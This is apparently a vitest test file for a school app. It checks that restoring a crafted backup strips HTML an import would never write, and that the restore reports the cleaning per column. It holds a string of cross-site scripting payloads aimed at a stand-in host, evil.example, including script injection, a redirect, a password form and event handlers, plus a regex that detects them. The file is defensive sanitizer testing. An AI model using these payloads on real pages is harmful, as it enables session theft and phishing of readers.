// S29: HTML of a backup is stored as an import would have written it, and what an import wrote comes back to the byte.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { testSecret, type TestApp } from '../../../test/app.ts'
import { craftBackup, setCell } from '../../../test/crafted-backup.ts'
import { startDemoSchool } from '../../../test/demo-school.ts'
import { readDump } from '../../../test/dump.ts'
import { isInMemory } from '../../../test/engines.ts'
import { newPlace } from '../../../test/places.ts'
import { said } from '../../../test/said.ts'
import { htmlColumns } from '../columns/html-columns.ts'
import { runBackupCommand } from './commands.ts'
import { restore } from './restore.ts'
import { verify } from './verify.ts'

let app: TestApp
let backup: Awaited<ReturnType<typeof craftBackup>>
const folder = mkdtempSync(join(tmpdir(), 'kinnow-crafted-'))
beforeAll(async () => {
  if (isInMemory) return
  app = await startDemoSchool()
  writeFileSync(join(app.dataDir, 'secret.key'), testSecret)
  const { dataDir, databaseUrl } = app
  backup = await craftBackup({ dataDir, databaseUrl, secretKey: undefined }, folder)
})
afterAll(async () => {
  rmSync(folder, { recursive: true })
  await app?.stop()
})

const name = `${'0a'.repeat(16)}.svg`
const evil = [
  `<script src="/media/${name}"></script>`,
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example">',
  '</div></body><body onload="evil()">',
  `<img src="/media/${name}" onerror="evil()">`,
  `<a href="javascript:evil()">evil</a>`,
  '<iframe srcdoc="evil"></iframe><style>evil</style>',
].join('')
const isEvil = /evil\(|evil\.example|srcdoc|<script src|<style>evil/i
/** Nothing that is not balanced is left either. */
const harmless = `<input disabled type="checkbox"><img src="/media/${name}"><a>evil</a>`

const body = JSON.stringify({
  objectives: ['2 < 3'],
  blocks: [{ type: 'html', html: `<p>Plain</p>${evil}` }],
})

/** Every way in which the key of a question holds HTML; a word that a reason belongs to is none. */
const key = {
  explanationHtml: evil,
  lessonId: null,
  right: [],
  feedback: { a: evil, b: [evil] },
  others: [{ id: 'x', html: evil }],
  more: [{ feedback: [evil, { form: 'a < b', html: evil }] }],
}

describe.skipIf(isInMemory)('the HTML of a backup', () => {
  test('that an import wrote is the same to the byte in the whole demo school', async () => {
    const place = await newPlace()
    backup.rewrite(() => {})

    expect((await restore(place, backup.crafted)).cleaned).toEqual([])
    expect(await readDump(place.db)).toEqual(await readDump(app.db))
  })

  test('that no import wrote is stored without what attacks a reader, and counted before', async () => {
    const place = await newPlace()
    const text = (value: unknown) =>
      JSON.stringify(typeof value === 'string' ? value : JSON.stringify(value))
    const versions = await app.db.query.selectFrom('question_versions').select('shown').execute()
    const shown = JSON.parse(versions[0]?.shown ?? '') as object
    backup.rewrite((header, rows) => {
      const put = (table: string, column: string, value: unknown) =>
        setCell(header, rows, { table, column, json: text(value) })
      put('subjects', 'about_html', evil)
      put('lesson_bodies', 'body', body)
      put('question_versions', 'answer_key', key)
      put('question_versions', 'type', 'reflection')
      put('question_versions', 'shown', { ...shown, promptHtml: evil, columns: [evil] })
    })

    const { cleaned } = await verify(backup.crafted)
    expect(cleaned).toEqual([
      { table: 'subjects', column: 'about_html', count: 1 },
      { table: 'lesson_bodies', column: 'body', count: 1 },
      { table: 'question_versions', column: 'shown', count: 1 },
      { table: 'question_versions', column: 'answer_key', count: 1 },
    ])
    expect((await restore(place, backup.crafted)).cleaned).toEqual(cleaned)

    const { lesson_bodies: bodies = [], ...dump } = await readDump(place.db)
    for (const { table } of htmlColumns)
      expect((dump[table] ?? bodies).filter((row) => isEvil.test(row))).toEqual([])
    const subjects = (dump['subjects'] ?? []).map((row) => JSON.parse(row).about_html as string)
    expect(subjects).toContain(harmless)
    expect(bodies.join()).toContain('2 < 3')
    expect(dump['question_versions']?.join()).toContain('a < b')
    expect(bodies.join()).toContain('<p>Plain</p>')
  })

  test('is named by the command that verifies, by table and column', async () => {
    backup.rewrite((header, rows) => {
      setCell(header, rows, { table: 'subjects', column: 'about_html', json: '"<base>"' })
    })

    expect(await said(() => runBackupCommand('verify', backup.crafted, false))).toContain(
      'A restore cleans HTML that no import writes from 1 text: 1 in about_html of subjects.',
    )
  })

  test('is in no other column', async () => {
    const known = htmlColumns.flatMap(({ table, columns }) =>
      Object.keys(columns).map((column) => `${table}.${column}`),
    )
    const marked = new Set<string>()
    for (const [table, rows] of Object.entries(await readDump(app.db)))
      for (const row of rows)
        for (const [column, value] of Object.entries(JSON.parse(row) as object))
          if (/<\/(?:p|code|strong|em|span|li)>/.test(String(value)))
            marked.add(`${table}.${column}`)

    // What is searched is text, in which a lesson on HTML has tags as words.
    expect([...marked].toSorted()).toEqual([...known, 'lesson_bodies.search_text'].toSorted())
  })
})
